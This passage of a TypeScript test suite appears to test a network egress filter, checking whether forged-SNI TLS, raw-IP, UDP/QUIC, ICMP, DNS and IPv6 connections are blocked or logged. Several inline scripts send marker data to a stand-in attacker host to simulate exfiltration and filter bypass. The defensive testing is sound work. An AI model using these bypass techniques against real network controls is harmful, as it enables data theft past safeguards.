      const script = `const net=require('net');const run=(parts)=>new Promise((res)=>{const s=net.connect(80,'${NET.allowed}');let out='';s.on('data',(d)=>out+=d);s.on('close',()=>res(out));s.on('error',()=>{});s.on('connect',async()=>{for(const p of parts){s.write(p);await new Promise((r)=>setTimeout(r,1300))}})});(async()=>{const a=await run(['${pipelined}']);const b=await run(['G','${paused}']);console.log(JSON.stringify([a.match(/HTTP\\/1\\.1 \\d+/g),b.match(/HTTP\\/1\\.1 \\d+/g)]))})()`;
      const result = await world.job('node', ['-e', script]);
      assert.equal(result.code, 0, result.stderr);
      const [a, b] = JSON.parse(result.stdout) as [string[] | null, string[] | null];
      const arrived = arrivedAt((e) => e.type === 'http' && String(e.url).includes(marker));
      const decisions = [await world.decision((e) => e.path === `/${marker}-a`), await world.decision((e) => e.path === `/${marker}-b`)];
      for (const decision of decisions) {
        assert.equal(decision?.host, 'attacker.test');
        assert.equal(decision?.decision, outcomeFor(mode));
      }
      if (mode === 'block') {
        assert.deepEqual(a, ['HTTP/1.1 200', 'HTTP/1.1 403']);
        assert.deepEqual(b, ['HTTP/1.1 403']);
        assert.equal(arrived.length, 0);
      } else {
        assert.deepEqual(a, ['HTTP/1.1 200', 'HTTP/1.1 200']);
        assert.deepEqual(b, ['HTTP/1.1 200']);
        assert.equal(arrived.length, 2);
      }
    });

    test('6: a TLS client sending SNI allowed.test to the attacker IP is blocked as sni-mismatch', async () => {
      const marker = `sni-${mode}-${randomLabel(10)}`;
      const script = `const tls=require('tls');const fs=require('fs');const s=tls.connect({host:'${NET.attacker}',port:443,servername:'allowed.test',ca:fs.readFileSync('${world.caFile}')},()=>{s.end('GET /${marker} HTTP/1.1\\r\\nHost: attacker.test\\r\\nConnection: close\\r\\n\\r\\n')});s.on('data',()=>{});s.on('end',()=>process.exit(0));s.on('error',(e)=>{console.error(e.code);process.exit(3)});`;
      const result = await world.job('node', ['-e', script]);
      const event = await world.decision((e) => e.kind === 'transparent' && e.sni === 'allowed.test' && e.ip === NET.attacker);
      assert.ok(event);
      assert.equal(event.reason, 'sni-mismatch');
      assert.equal(event.host, 'allowed.test');
      assert.equal(event.decision, outcomeFor(mode));
      assertTlsRequestOutcome(mode, result, marker);
    });

    test('7: git:// (non-TLS, non-HTTP TCP) to an allowed name and port works; to another port it is blocked', async () => {
      const ok = await world.job('git', ['ls-remote', 'git://allowed.test/repo.git'], { env: { GIT_CONFIG_NOSYSTEM: '1' } });
      assert.equal(ok.code, 0, ok.stderr);
      assert.match(ok.stdout, /refs\/heads\/main/);
      const allowed = await world.decision((e) => e.kind === 'transparent' && e.host === 'allowed.test' && e.port === 9418);
      assert.equal(allowed?.decision, 'allowed');
      assert.equal(allowed?.sni, undefined);
      const before = arrivedAt((e) => e.type === 'tcp-connect').length;
      const other = await world.job('git', ['ls-remote', 'git://allowed.test:9419/repo.git'], { env: { GIT_CONFIG_NOSYSTEM: '1' }, timeoutMs: 15_000 });
      assert.notEqual(other.code, 0);
      const event = await world.decision((e) => e.kind === 'transparent' && e.host === 'allowed.test' && e.port === 9419);
      assert.ok(event, 'decision for allowed.test:9419, attributed through DNS');
      assert.equal(event.reason, 'not-allowed-endpoint');
      assert.equal(event.decision, outcomeFor(mode));
      const connects = arrivedAt((e) => e.type === 'tcp-connect').length - before;
      assert.equal(connects, mode === 'block' ? 0 : 1);
    });

    test('8: UDP to 443 (QUIC) and to an arbitrary port is dropped in block mode, logged only in audit mode', async () => {
      const marker = `udp-${mode}-${randomLabel(8)}`;
      const script = `const d=require('dgram').createSocket('udp4');let errors=0;let n=0;const send=(p)=>d.send('${marker}',p,'${NET.attacker}',(e)=>{if(e)errors++;if(++n===4){setTimeout(()=>{console.log('errors='+errors);process.exit(0)},300)}});send(443);send(9999);setTimeout(()=>{send(443);send(9999)},100);d.on('error',()=>{});`;
      const result = await world.job('node', ['-e', script]);
      assert.equal(result.code, 0, result.stderr);
      await new Promise((r) => setTimeout(r, 300));
      const arrived = arrivedAt((e) => e.type === 'udp' && e.data === marker);
      if (mode === 'block') {
        assert.equal(arrived.length, 0, 'no datagram reached the attacker');
        assert.match(result.stdout, /errors=[1-9]/, 'the sender is told (EPERM/ECONNREFUSED), so it can fall back');
      } else {
        assert.equal(new Set(arrived.map((e) => e.port)).size, 2, 'audit mode passes UDP to both ports');
      }
      // The rules' reports (NFLOG, through ulogd) are events: one per flow and minute, in both modes.
      for (const port of [443, 9999]) {
        const event = await world.decision((e) => e.kind === 'udp' && e.host === NET.attacker && e.port === port);
        assert.ok(event, `a udp event for ${NET.attacker}:${port}`);
        assert.equal(event.decision, outcomeFor(mode));
        assert.equal(event.reason, 'not-proxied');
      }
      const quic = world.events().filter((e) => e.event === 'decision' && e.kind === 'udp' && e.host === NET.attacker && e.port === 443);
      assert.equal(quic.length, 1, 'two datagrams of one flow are one event');
    });

    test('8b: ICMP and DNS to a resolver on another port go around the proxy: refused in block mode, events in both', async () => {
      const marker = `icmp-dns-${mode}-${randomLabel(6)}`;
      const script = `
import socket, struct, sys
marker = sys.argv[2].encode()
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
try:
    s.sendto(struct.pack('!BBHHH', 8, 0, 0, 7, 1) + marker, (sys.argv[1], 0))
except OSError as e:
    print('icmp refused', e)
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
try:
    u.sendto(struct.pack('!HHHHHH', 0x1234, 0x0100, 1, 0, 0, 0) + bytes([len(marker)]) + marker + struct.pack('!BHH', 0, 1, 1), (sys.argv[1], 5353))
except OSError as e:
    print('udp refused', e)
`;
      const result = await world.job('python3', ['-c', script, NET.attacker, marker]);
      assert.equal(result.code, 0, result.stderr);
      const icmp = await world.decision((e) => e.kind === 'icmp' && e.host === NET.attacker);
      assert.ok(icmp, 'an icmp event');
      assert.equal(icmp.decision, outcomeFor(mode));
      const dns = await world.decision((e) => e.kind === 'udp' && e.host === NET.attacker && e.port === 5353);
      assert.ok(dns, 'a udp event for the resolver on 5353');
      assert.equal(dns.decision, outcomeFor(mode));
      assert.match(dns.message, /DNS/);
    });

    test('9: IPv6: raw-IP, forged SNI and by-name calls over IPv6 are decided the same way', async () => {
      const byName = await curl(['-6', 'https://allowed.test/']);
      assert.equal(byName.code, 0, byName.stderr);
      const allowed6 = await world.decision((e) => e.kind === 'transparent' && e.host === 'allowed.test' && e.ip === NET.allowed6);
      assert.equal(allowed6?.decision, 'allowed');
      const raw = await curl([`https://[${NET.rawOnly6}]/`]);
      const rawEvent = await world.decision((e) => e.kind === 'transparent' && e.ip === NET.rawOnly6);
      assert.equal(rawEvent?.reason, 'raw-ip');
      assert.equal(rawEvent?.decision, outcomeFor(mode));
      const forged = await curl(['--connect-to', `allowed.test:443:[${NET.attacker6}]:443`, 'https://allowed.test/v6-forged']);
      const forgedEvent = await world.decision((e) => e.kind === 'transparent' && e.ip === NET.attacker6 && e.sni === 'allowed.test');
      assert.equal(forgedEvent?.reason, 'sni-mismatch');
      assert.equal(forgedEvent?.decision, outcomeFor(mode));
      const udp = await world.job('node', [
        '-e',
        `const d=require('dgram').createSocket('udp6');d.send('v6-${mode}',9999,'${NET.attacker6}',(e)=>{console.log(e?e.code:'sent');setTimeout(()=>process.exit(0),200)});`,
      ]);
      assert.equal(udp.code, 0);
      await new Promise((r) => setTimeout(r, 300));
      const arrived = arrivedAt((e) => (e.type === 'http' && (String(e.local).includes(NET.rawOnly6) || e.url === '/v6-forged')) || (e.type === 'udp' && e.data === `v6-${mode}`));
      const udp6Event = await world.decision((e) => e.kind === 'udp' && e.host === NET.attacker6 && e.port === 9999);
      assert.equal(udp6Event?.decision, outcomeFor(mode), 'UDP over IPv6 is an event too');
      if (mode === 'block') {
        assert.notEqual(raw.code, 0);
        assert.notEqual(forged.code, 0);
        assert.equal(arrived.length, 0, JSON.stringify(arrived));
      } else {
        assert.equal(arrived.length, 3, JSON.stringify(arrived));
      }
    });
  });
}

describe('10: egress-guard killed mid-job in block mode', () => {
  test('new connections and DNS fail (refused), nothing leaks', async () => {
    await world.startEgressGuard('block');
    try {
      const ok = await curl(['https://allowed.test/']);
      assert.equal(ok.code, 0, ok.stderr);
      await world.stopEgressGuard({ signal: 'SIGKILL', keepRules: true });
      const marker = `after-kill-${randomLabel(10)}`;
      const before = world.internetLog().length;
      const allowed = await curl(['https://allowed.test/']);
      // By name: DNS is redirected to the dead resolver (6); pinned addresses: the redirect finds no listener (7).
      assert.ok(allowed.code === 6 || allowed.code === 7, `curl fails to resolve or connect, got ${allowed.code} ${allowed.stderr}`);
      const pinned = await curl(['--resolve', `attacker.test:443:${NET.attacker}`, `https://attacker.test/${marker}`]);
      assert.equal(pinned.code, 7);
      const raw6 = await curl([`https://[${NET.rawOnly6}]/${marker}`]);
      assert.equal(raw6.code, 7);
      const dig = await world.job('dig', ['+tries=1', '+time=2', `${marker}.attacker.test`]);
      assert.notEqual(dig.code, 0, 'no resolver answers');
      const dig2 = await world.job('dig', ['+tries=1', '+time=2', `@${NET.dns}`, `${marker}.attacker.test`]);
      assert.notEqual(dig2.code, 0);
      assert.deepEqual(world.internetLog().slice(before), [], 'nothing reached the internet namespace');
    } finally {
      await world.stopEgressGuard();
    }
  });
});

describe('11: silent clients waited for past the peek are capped at a quarter of max-tunnels', () => {
  test('with max-tunnels 4, one silent client at a refused address is waited for; the next is refused at the end of the peek', async () => {
    // Block mode waits up to 10 s for the first bytes of a client silent at an address where it would be refused (no
    // allowed name resolved to it), holding a max-tunnels slot meanwhile; at most a quarter of max-tunnels (here 1) wait
    // at once, so that silent retries cannot fill the limit. B, silent while A waits, is refused as before the wait.
    await world.startEgressGuard('block', [], { env: { EGRESS_MAX_TUNNELS: '4' } });
    try {
      const script = `const net=require('net');const closed=[];let a,b;const done=()=>{console.log(JSON.stringify({closed,aOpen:!a.destroyed}));a.destroy();process.exit(0)};a=net.connect(443,'${NET.attacker}');a.on('error',()=>{});a.on('close',()=>closed.push('a'));a.on('connect',()=>{b=net.connect(443,'${NET.attacker}');b.on('error',()=>{});b.on('close',()=>{closed.push('b');done()})});setTimeout(()=>{console.log(JSON.stringify({closed,timeout:true}));process.exit(0)},8000);`;
      const result = await world.job('node', ['-e', script]);
      assert.equal(result.code, 0, result.stderr);
      const outcome = JSON.parse(result.stdout) as { closed: string[]; aOpen?: boolean; timeout?: true };
      assert.deepEqual(outcome, { closed: ['b'], aOpen: true }, 'B refused at the end of the peek while A is still waited for');
    } finally {
      await world.stopEgressGuard();
    }
  });
});
